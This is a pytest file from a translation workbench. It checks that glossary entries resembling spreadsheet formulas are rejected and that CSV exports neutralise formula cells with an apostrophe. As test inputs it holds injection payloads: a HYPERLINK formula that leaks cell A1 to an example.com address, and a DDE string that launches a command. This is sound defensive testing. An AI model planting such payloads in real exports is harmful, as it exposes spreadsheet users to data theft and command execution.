"""Spreadsheet formula injection: CSV meant for spreadsheets neutralises a cell a spreadsheet
would run (OWASP's leading apostrophe), a glossary term is never a formula, and corpus formats
stay byte-exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.test_export import export, make_unit
from workbench.records import NewTranslation, Origin
from workbench.store import Store

FORMULA = '=HYPERLINK("https://example.com/?"&A1,"Klicka")'


@pytest.mark.parametrize("term", [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1"])
def test_glossary_add_refuses_a_formula_term_in_one_line(  # type: ignore[no-untyped-def]
    invoke, store_path: Path, term: str
) -> None:
    added = invoke("glossary", "add", "--", "avtal", term)
    assert added.exit_code != 0
    (line,) = [line for line in added.stderr.splitlines() if line.startswith("workbench: ")]
    assert line.startswith("workbench: error: ") and "formula" in line
    assert invoke("glossary", "add", "--", term.strip(), "agreement").exit_code != 0
    assert invoke("glossary", "add", "avtal", "agreement").exit_code == 0
    assert json.loads(invoke("glossary", "list", "--json").stdout) == [
        {"source": "avtal", "target": "agreement", "note": None}
    ]


def test_glossary_import_of_a_formula_term_imports_nothing(  # type: ignore[no-untyped-def]
    invoke, store_path: Path, tmp_path: Path
) -> None:
    assert invoke("glossary", "add", "bro", "bridge").exit_code == 0
    terms = tmp_path / "terms.csv"
    with terms.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([("avtal", "agreement"), ("länk", FORMULA)])
    imported = invoke("glossary", "import", terms)
    assert imported.exit_code != 0
    assert "terms.csv:2" in imported.stderr and "formula" in imported.stderr
    assert [t["source"] for t in json.loads(invoke("glossary", "list", "--json").stdout)] == ["bro"]


def test_term_protection_never_carries_a_stored_formula_into_mt() -> None:
    from workbench.translate.glossary import GlossaryTerm
    from workbench.translate.masking import SpanKind, mask

    terms = [GlossaryTerm("avtal", FORMULA), GlossaryTerm("kommunen", "the municipality")]
    masked = mask("Kommunen skrev ett avtal.", lang="sv", terms=terms)
    # a term stored before formulas were refused is left to MT, never pasted into the target
    assert [s.replacement for s in masked.spans if s.kind is SpanKind.TERM] == ["the municipality"]


def test_glossary_csv_neutralises_formula_cells_and_reads_back(  # type: ignore[no-untyped-def]
    invoke, store_path: Path, tmp_path: Path
) -> None:
    notes = ["=intern anteckning", "-s i plural", "@redaktionen", "vanlig"]
    for number, note in enumerate(notes):
        assert invoke("glossary", "add", f"ord{number}", f"word{number}", "--note", note)
    listed = invoke("glossary", "list", "--csv")
    assert listed.exit_code == 0, listed.stderr
    rows = list(csv.reader(io.StringIO(listed.stdout)))
    assert rows[0] == ["source", "target", "note"]
    assert [row[2] for row in rows[1:]] == [
        "'=intern anteckning",
        "'-s i plural",
        "'@redaktionen",
        "vanlig",
    ]
    # `glossary import` reads the file back as it was listed: the apostrophes come off again
    exported = tmp_path / "exported.csv"
    exported.write_text(listed.stdout, encoding="utf-8")
    other = tmp_path / "other.db"
    assert invoke("glossary", "import", exported, "--store", other).exit_code == 0
    again = json.loads(invoke("glossary", "list", "--json", "--store", other).stdout)
    assert [term["note"] for term in again] == notes


def test_stats_csv_neutralises_a_formula_document_title(  # type: ignore[no-untyped-def]
    invoke, store_path: Path
) -> None:
    from tests.support import add_sentences

    with Store.open(store_path) as store:
        document_id = add_sentences(store, "lista", ["Staden bygger en ny bro."], title=FORMULA)
        (segment_id,) = store.documents.segment_ids(document_id)
        store.reviews.record_translations(
            [NewTranslation(segment_id, "The city builds a bridge.", Origin.MT)]
        )
        store.reviews.save_edit(segment_id, "The town builds a new bridge.", "@anna", None)
        store.reviews.approve(segment_id, "@anna")
    listed = invoke("stats", "--csv")
    assert listed.exit_code == 0, listed.stderr
    rows = list(csv.reader(io.StringIO(listed.stdout)))
    assert rows[0][:2] == ["group", "approved"]
    assert [row[0] for row in rows[1:]] == ["all", "'" + FORMULA, "'@anna"]
    assert [row[1] for row in rows[1:]] == ["1", "1", "1"]
    assert invoke("stats", "--csv", "--json").exit_code != 0


def test_corpus_tsv_keeps_formula_text_byte_exact(tmp_path: Path) -> None:
    unit = make_unit("=SUMMA(A1:A3) är en formel.", FORMULA, author="@anna")
    lines = export(tmp_path, "tsv", [unit]).read_bytes().split(b"\n")
    assert lines[1].split(b"\t")[:2] == [
        b"=SUMMA(A1:A3) \xc3\xa4r en formel.",
        FORMULA.encode("utf-8"),
    ]
    assert lines[1].split(b"\t")[6] == b"@anna"
